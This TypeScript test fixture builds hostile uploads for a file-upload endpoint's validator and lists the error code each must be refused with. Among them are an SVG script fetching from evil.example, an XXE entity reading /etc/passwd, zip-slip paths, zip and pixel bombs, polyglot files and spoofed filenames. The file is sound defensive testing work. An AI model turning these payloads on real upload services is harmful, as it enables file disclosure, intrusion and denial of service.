import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import {
  aDocx,
  anArchive,
  anM4a,
  anMp3,
  anOdt,
  anOgg,
  anXlsx,
  aPdf,
  aPhoto,
  type Part,
  type SentFile,
} from './files.js';

/** A file that nobody should send, and what it is refused with. */
export interface Hostile {
  what: string;
  file: SentFile;
  status: number;
  code: string;
}

const text = (words: string, encoding: BufferEncoding = 'utf8') => Buffer.from(words, encoding);
const programme = Buffer.concat([text('MZ\x90\0\x03\0', 'latin1'), Buffer.alloc(600)]);
const script = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example")</script></svg>';
const page = '<!DOCTYPE html><html><script>alert(1)</script></html>';
const zip = anArchive([{ name: 'evil.exe', bytes: programme }]);
const jar = anArchive([
  { name: 'META-INF/MANIFEST.MF' },
  { name: 'Evil.class', bytes: text('\xca\xfe\xba\xbe', 'latin1') },
]);

/** One honest file of each kind that is taken. */
export const honest = async (): Promise<Record<string, Buffer>> => ({
  jpg: await aPhoto('jpeg'),
  png: await aPhoto('png'),
  webp: await aPhoto('webp'),
  pdf: aPdf(),
  docx: aDocx(),
  xlsx: anXlsx(),
  odt: anOdt(),
  mp3: anMp3(),
  m4a: anM4a(),
  ogg: anOgg(),
  txt: text('what she said'),
});

const otherKinds = [
  'exe', 'dll', 'scr', 'com', 'bat', 'cmd', 'ps1', 'vbs', 'js', 'mjs', 'sh', 'jar', 'apk', 'php', 'html', 'htm', 'xhtml', 'svg', 'xml',
  'gif', 'tiff', 'bmp', 'ico', 'zip', 'rar', '7z', 'gz', 'iso', 'doc', 'xls', 'docm', 'xlsm', 'pptx', 'rtf', 'mp4', 'mov', 'wav', 'lnk',
  'url', 'eml', 'csv', 'json',
]; // prettier-ignore

/** Everything that must be refused; each names `/file` and says why by its code. */
export async function hostileFiles(): Promise<Hostile[]> {
  const good = await honest();
  const kinds = Object.keys(good);
  const row = (status: number, code: string) => (what: string, name: string, bytes: Uint8Array, type?: string): Hostile => ({ what, file: { name, bytes, ...(type && { type }) }, status, code }); // prettier-ignore
  const [notTaken, unlike, unnamed, undeclared] = ['type', 'content', 'name', 'declared'].map((code) => row(415, code)) as Row[]; // prettier-ignore
  const [empty, double, macros, damaged, protectedOne, noDocument, tooManyParts, bomb] =
    ['empty', 'two-kinds', 'macros', 'damaged', 'protected', 'content', 'too-many-parts', 'too-many-pixels'].map((code) => row(422, code)) as Row[]; // prettier-ignore
  const doc = (what: string, refused: Row | undefined, ...parts: Part[]) => refused!(what, 'a.docx', aDocx(...parts));
  return [
    ...otherKinds.map((kind) => notTaken!(`a programme or page called .${kind}`, `a.${kind}`, text(page))),
    ...kinds.filter((kind) => kind !== 'txt').map((kind) => unlike!(`a programme called .${kind}`, `a.${kind}`, programme)),
    ...kinds.map((kind, n) => {
      const next = kinds[(n + 1) % (kinds.length - 1)]!;
      const sameContainer = ['docx', 'xlsx'].includes(kind);
      return (sameContainer ? noDocument : unlike)!(`a ${next} called .${kind}`, `a.${kind}`, good[next]!);
    }).filter(({ file }) => !(file.name === 'a.ogg' && file.bytes === good['ogg'])),
    ...kinds.map((kind) => empty!(`an empty ${kind}`, `a.${kind}`, Buffer.alloc(0))),
    undeclared!('a PDF that calls itself a page', 'a.pdf', good['pdf']!, 'text/html'),
    undeclared!('a picture that calls itself SVG', 'a.jpg', good['jpg']!, 'image/svg+xml'),
    undeclared!('a text that calls itself a page', 'a.txt', good['txt']!, 'text/html'),
    undeclared!('a letter that calls itself PDF', 'a.docx', good['docx']!, 'application/pdf'),
    undeclared!('a song that calls itself a film', 'a.mp3', good['mp3']!, 'video/mp4'),
    notTaken!('a programme whose name reads backwards as .jpg', 'photo\u202Egpj.exe', programme),
    notTaken!('a second ending', 'passport.pdf.exe', programme),
    notTaken!('a second ending behind spaces', 'passport.pdf                    .exe', programme),
    notTaken!('an ending behind what cannot be seen', 'passport.exe\u200B', programme),
    unnamed!('no ending', 'passport', good['pdf']!),
    unnamed!('nothing but an ending', '.pdf', good['pdf']!),
    ...(['heic', 'heix', 'mif1', 'avif'] as const).map((brand) =>
      row(415, 'heic')(`a picture of a telephone (${brand})`, 'IMG_0001.HEIC', Buffer.concat([text(`\0\0\0\x18ftyp${brand}\0\0\0\0`, 'latin1'), Buffer.alloc(200)]), 'image/heic')),
    double!('a PDF that is a ZIP', 'a.pdf', Buffer.concat([aPdf(), zip])),
    double!('a PDF that is a ZIP and still ends as PDF', 'a.pdf', Buffer.concat([aPdf(), zip, text('%%EOF')])),
    double!('a PDF that is a JAR', 'a.pdf', Buffer.concat([aPdf(), jar])),
    double!('a PDF within a PDF', 'a.pdf', Buffer.concat([text('%PDF-1.4\n'), aPdf()])),
    double!('a PDF that is a page', 'a.pdf', Buffer.concat([text(`%PDF-1.4\n${page}`), aPdf()])),
    double!('a song that is a ZIP', 'a.mp3', Buffer.concat([anMp3(), zip])),
    double!('a song that is a PDF', 'a.mp3', Buffer.concat([anMp3().subarray(0, 500), aPdf()])),
    double!('a voice message that is a JAR', 'a.m4a', Buffer.concat([anM4a(), jar])),
    double!('a voice message that is a page', 'a.ogg', Buffer.concat([anOgg().subarray(0, 100), text(page)])),
    double!('a picture that is a PDF', 'a.jpg', Buffer.concat([good['jpg']!.subarray(0, 20), aPdf(), good['jpg']!])),
    double!('a letter that is a PDF', 'a.docx', anArchive([{ name: 'a', bytes: aPdf() }, { name: '[Content_Types].xml' }, { name: 'word/document.xml' }])),
    ...['SVG with a script', 'page', 'XML with an entity'].map((what, n) =>
      double!(`a text that is ${what}`, 'a.txt', text([script, page, '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'][n]!))),
    double!('a text that becomes a page', 'a.txt', text(`dear all\n\n< iframe src="//evil.example">`)),
    doc('macros', macros, { name: 'word/vbaProject.bin' }),
    macros!('macros in a list', 'a.xlsx', anXlsx({ name: 'xl/vbaProject.bin' })),
    macros!('old macros in a list', 'a.xlsx', anXlsx({ name: 'xl/macrosheets/sheet1.xml' })),
    doc('controls', macros, { name: 'word/activeX/activeX1.xml' }),
    macros!('macros in an ODT', 'a.odt', anOdt({ name: 'Basic/Standard/Module1.xml' })),
    macros!('scripts in an ODT', 'a.odt', anOdt({ name: 'Scripts/python/evil.py' })),
    doc('a way up', damaged, { name: '../../../etc/cron.d/evil' }),
    doc('a way to the root', damaged, { name: '/etc/passwd' }),
    doc('a drive', damaged, { name: 'C:evil.exe' }),
    doc('a part twice', damaged, { name: 'word/document.xml' }),
    doc('a password', protectedOne, { name: 'word/secret.xml', isEncrypted: true }),
    unlike!('a password around it', 'a.docx', Buffer.concat([text('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2000)])),
    noDocument!('an archive of a programme', 'a.docx', zip),
    noDocument!('an archive of an archive of an archive', 'a.docx', [1, 2, 3, 4, 5, 6, 7, 8, 9].reduce((inner, n) => anArchive([{ name: `${n}.zip`, bytes: inner }]), zip)), // prettier-ignore
    noDocument!('a zip bomb', 'a.xlsx', anArchive([{ name: 'bomb', bytes: Buffer.alloc(20_000_000), isPacked: true }])),
    damaged!('a letter with something behind it', 'a.docx', Buffer.concat([aDocx(), programme])),
    damaged!('a letter with something in a remark', 'a.docx', Buffer.concat([aDocx(), zip])),
    damaged!('a letter without its end', 'a.docx', aDocx().subarray(0, -30)),
    damaged!('a letter whose directory lies elsewhere', 'a.docx', changed(aDocx(), -6, 0xff)),
    tooManyParts!('a letter of 9,000 parts', 'a.docx', aDocx(...Array.from({ length: 9000 }, (_, n) => ({ name: `word/media/${n}`, bytes: Buffer.alloc(0) })))), // prettier-ignore
    damaged!('a PDF without its end', 'a.pdf', Buffer.concat([aPdf().subarray(0, 60), Buffer.alloc(3000)])),
    bomb!('a picture that says it is 60,000 by 60,000', 'a.png', pngOf(60_000, 60_000)),
    damaged!('a picture that says it is 2,000,000,000 wide', 'a.png', pngOf(2_000_000_000, 1)),
    bomb!('a picture of 64 megapixels in a few kilobytes', 'a.png', await flat(8000, 8000)),
    bomb!('a picture like a thread', 'a.png', await flat(20_001, 1)),
    ...(['jpg', 'png', 'webp'] as const).flatMap((kind) => [
      damaged!(`half a ${kind}`, `a.${kind}`, good[kind]!.subarray(0, good[kind]!.length / 2)),
      damaged!(`the first bytes of a ${kind} and then a programme`, `a.${kind}`, Buffer.concat([good[kind]!.subarray(0, 16), programme])),
    ]),
    noDocument!('a text in UTF-16', 'a.txt', text('\uFEFFshe said', 'utf16le')),
    noDocument!('a text in Latin-1', 'a.txt', text('d\xe9j\xe0 vu', 'latin1')),
    noDocument!('a text with NUL', 'a.txt', text('a\0b')),
    noDocument!('a text that steers a terminal', 'a.txt', text('\x1b]0;evil\x07')),
    noDocument!('a text with an overlong slash', 'a.txt', Buffer.of(0x61, 0xc0, 0xaf)),
    noDocument!('a programme called .txt', 'a.txt', programme),
    row(413, 'size')('a file of more than may be sent', 'a.txt', Buffer.alloc(25 * 1024 * 1024 + 1, 'a')),
    row(413, 'size')('a picture of more than may be sent', 'a.jpg', Buffer.concat([good['jpg']!, Buffer.alloc(26 * 1024 * 1024)])),
  ]; // prettier-ignore
}
type Row = (what: string, name: string, bytes: Uint8Array, type?: string) => Hostile;

function changed(bytes: Buffer, at: number, to: number): Buffer {
  const copy = Buffer.from(bytes);
  copy[bytes.length + at] = to;
  return copy;
}

const flat = (width: number, height: number): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 3, background: 'black' }, limitInputPixels: false })
    .png()
    .toBuffer();

/** A PNG whose header promises more than it holds. */
function pngOf(width: number, height: number): Buffer {
  const chunk = (name: string, content: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(content.length);
    const body = Buffer.concat([Buffer.from(name), content]);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(100))), chunk('IEND', Buffer.alloc(0))]); // prettier-ignore
}
